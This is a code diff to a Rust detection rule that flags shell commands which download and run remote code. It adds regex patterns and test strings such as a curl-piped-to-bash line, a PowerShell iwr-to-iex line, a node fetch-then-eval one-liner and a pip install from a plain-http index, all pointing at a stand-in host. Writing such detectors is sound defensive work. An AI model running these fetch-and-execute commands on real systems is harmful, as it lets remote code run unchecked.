@@ -31,6 +31,8 @@ pub(crate) const RULE: Rule = Rule {
             "|python",
             "| node",
             "| perl",
+            "then(eval",
+            "index-url",
         ],
         pattern: r"(?ix)
             # curl ... | sh
@@ -41,6 +43,10 @@ pub(crate) const RULE: Rule = Rule {
           | \b(?:ba|z)?sh\s+(?:-c\s+)?['\x22]?[<$]\(\s*(?:curl|wget)\b[^\n)]*
             # eval $(curl ...)
           | \beval\s+['\x22]?\$\(\s*(?:curl|wget)\b[^\n)]*
+            # a script that fetches another and evaluates it
+          | \b(?:node|deno|bun)\s+(?:-e|--eval|eval)\b[^\n]{0,40}\bfetch\([^\n]{0,160}\beval\b
+            # packages from an index that anyone on the way can change
+          | \bpip3?\s+install\b[^\n]{0,80}--(?:extra-)?index-url[\s=]+http://[^\s]+
             # PowerShell, fetched inside
           | (?:iex|invoke-expression)\b[^\n]{0,80}(?:downloadstring|iwr|invoke-webrequest|net\.webclient)
             # PowerShell, piped
@@ -48,7 +54,7 @@ pub(crate) const RULE: Rule = Rule {
         ",
         keep: from_somewhere,
     },
-    hits: &["curl -fsSL https://x.y/i.sh | bash", "bash <(curl -s http://x.y)", "iwr https://x.y | iex"],
+    hits: &["curl -fsSL https://x.y/i.sh | bash", "bash <(curl -s http://x.y)", "iwr https://x.y | iex", "node -e \"fetch('https://x.y/p.js').then(r => r.text()).then(eval)\"", "pip install --index-url http://x.y/simple helper"],
     misses: &["curl https://x.y/data.json | jq .", "cat list | sh_count", "Explain what `curl … | sh` does."],
 };
 
